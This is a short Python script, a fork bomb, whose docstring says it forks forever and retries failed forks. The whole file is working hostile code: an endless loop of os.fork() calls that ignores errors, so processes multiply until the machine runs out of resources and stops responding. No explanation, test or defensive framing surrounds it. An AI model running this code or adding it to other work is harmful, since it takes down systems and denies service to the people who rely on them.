"""Forks forever; every child does the same, failed forks are retried."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
